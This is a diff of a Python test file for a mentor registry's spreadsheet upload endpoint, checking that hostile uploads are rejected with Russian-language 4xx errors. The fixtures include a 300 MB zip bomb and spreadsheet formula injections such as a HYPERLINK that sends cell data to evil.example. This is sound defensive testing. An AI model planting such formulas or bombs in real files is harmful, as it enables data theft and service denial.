@@ -110,34 +110,110 @@ def test_formula_looking_cells_are_escaped_in_the_csv_export(registry):
     assert ";'=HYPERLINK(1) Анна;" in text
 
 
-def zip_bomb() -> bytes:
+def workbook(rows: list[list[object]]) -> bytes:
+    from openpyxl import Workbook
+
+    book = Workbook()
+    for row in rows:
+        book.active.append(row)
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * 1024 * 1024))
+    book.save(buffer)
     return buffer.getvalue()
 
 
-@pytest.mark.parametrize("name,content,kind", [
-    ("not a spreadsheet", b"%PDF-1.4 this is a pdf", "mentors"),
-    ("empty", b"", "mentors"),
-    ("garbage xlsx", os.urandom(4096), "mentors"),
-    ("zip bomb", None, "mentors"),
-    ("wrong kind", None, "mentors"),
-    ("truncated xlsx", None, "mentees"),
-])
-def test_malformed_uploads_get_a_clear_4xx_and_write_nothing(registry, name, content, kind):
-    filename = "file.xlsx"
-    if name == "zip bomb":
-        content = zip_bomb()
-    elif name == "wrong kind":
-        content = sample("mentees.xlsx")
-    elif name == "truncated xlsx":
-        content = sample("mentees.xlsx")[:5000]
-    response = upload(registry, kind, content, filename, on_error="skip")
-    assert 400 <= response.status_code < 500, response.json
+def raw_sheet(cells_xml: str, *, bomb: int = 0) -> bytes:
+    """A minimal workbook whose only sheet holds the given `<row>` XML, written without a library's checks."""
+    buffer = io.BytesIO()
+    parts = {
+        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
+        '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
+        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
+        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        'spreadsheetml.worksheet+xml"/></Types>',
+        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
+        'name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+        f'spreadsheetml/2006/main"><sheetData>{cells_xml}</sheetData></worksheet>' + " " * bomb,
+    }
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+    return buffer.getvalue()
+
+
+MENTOR_HEADER = ["Район", "Образовательная организация", "ФИО наставника", "Предмет"]
+MENTOR_ROW = ["Белоярский район", "МБОУ СОШ № 1", "Иванова Анна Петровна", "Математика"]
+
+
+def random_letters(n: int) -> str:
+    """Letters that do not compress 100 times (a run of one letter would be refused as a zip bomb first)."""
+    import random
+
+    return "".join(random.Random(n).choices("абвгдеёжзийклмнопрстуфхцчшщъыьэюя", k=n))
+
+
+def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
+    return "\r\n".join(";".join(row) for row in rows).encode(encoding)
+
+
+HOSTILE = {
+    # name: (file name, builder, expected status, expected code)
+    "not a spreadsheet": ("file.xlsx", lambda: b"%PDF-1.4 this is a pdf", 422, "corrupt_file"),
+    "empty": ("file.xlsx", lambda: b"", None, None),
+    "random bytes named xlsx": ("file.xlsx", lambda: os.urandom(4096), None, None),
+    "zip bomb (300 MB sheet)": ("file.xlsx", lambda: raw_sheet("", bomb=300 * 2**20), 413, "zip_bomb"),
+    "wrong kind (a mentees file as mentors)": ("file.xlsx", lambda: sample("mentees.xlsx"), None, None),
+    "truncated xlsx": ("file.xlsx", lambda: sample("mentors.xlsx")[:5000], None, "corrupt_file"),
+    "100,000 columns (csv)": ("wide.csv", lambda: csv_bytes([MENTOR_HEADER + ["x"] * 100_000, MENTOR_ROW]), 422,
+                              "too_many_columns"),
+    "16,384 columns, the xlsx maximum": ("wide.xlsx", lambda: workbook([MENTOR_HEADER + ["x"] * 16_380,
+                                                                         MENTOR_ROW]), 422, "too_many_columns"),
+    "a cell at column 100,000 (beyond the xlsx grid)": ("far.xlsx", lambda: raw_sheet(
+        '<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО наставника</t></is></c>'
+        '<c r="EQXD1" t="inlineStr"><is><t>x</t></is></c></row>'), 422, "too_many_columns"),
+    "10 MB cell (csv)": ("big.csv", lambda: csv_bytes([MENTOR_HEADER, [*MENTOR_ROW[:2], "Я" * 5_000_000,
+                                                                       "Математика"]]), 422, "cell_too_large"),
+    "10 MB cell (xlsx)": ("big.xlsx", lambda: raw_sheet(
+        '<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО наставника</t></is></c></row>'
+        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{random_letters(5_000_000)}</t></is></c></row>'), 422,
+        "cell_too_large"),
+    "duplicated headers": ("dup.csv", lambda: csv_bytes([MENTOR_HEADER + ["ФИО наставника"], MENTOR_ROW + ["x"]]),
+                           422, "duplicate_columns"),
+    "formula in a csv cell": ("formula.csv", lambda: sample("mentors_cp1251.csv").replace(
+        b"smirnova54@mail.ru", '=HYPERLINK("http://evil.example/?"&A2,"почта")'.encode("cp1251")), 422,
+        "formula"),
+    "formula in an xlsx cell": ("formula.xlsx", lambda: workbook([MENTOR_HEADER + ["Контакты"], MENTOR_ROW + [
+        '=HYPERLINK("http://evil.example","почта")']]), 422, "formulas"),
+    "KOI8-R text": ("koi8.csv", lambda: csv_bytes([MENTOR_HEADER, [MENTOR_ROW[0], "Гимназия", *MENTOR_ROW[2:]]],
+                                                  "koi8_r"), 422, None),
+    "UTF-16 without a byte order mark": ("utf16.csv", lambda: csv_bytes([MENTOR_HEADER, MENTOR_ROW], "utf-16-le"),
+                                         415, "not_spreadsheet"),
+    "UTF-8 cut inside a letter": ("cut.csv", lambda: csv_bytes([MENTOR_HEADER, MENTOR_ROW])[:-1] + b"\xd0", None,
+                                  None),
+}
+
+
+@pytest.mark.parametrize("name", list(HOSTILE))
+def test_hostile_uploads_get_a_clear_4xx_in_russian_and_write_nothing(registry, name):
+    filename, build, status, code = HOSTILE[name]
+    response = upload(registry, "mentors", build(), filename)
+    assert 400 <= response.status_code < 500, (name, response.status_code, response.json)
+    if status is not None:
+        assert response.status_code == status, (name, response.json)
     assert response.mimetype == "application/problem+json"
-    assert any("а" <= ch <= "я" for ch in response.json["detail"].lower())
+    body = response.json
+    text = body["detail"] + " ".join(error["message"] for error in body.get("errors", []))
+    assert any("а" <= ch <= "я" for ch in text.lower()), body
+    if code is not None:
+        assert code in {body.get("code"), *(error.get("code") for error in body.get("errors", []))}, body
     assert counts(registry) == (0, 0, 0)
 
 
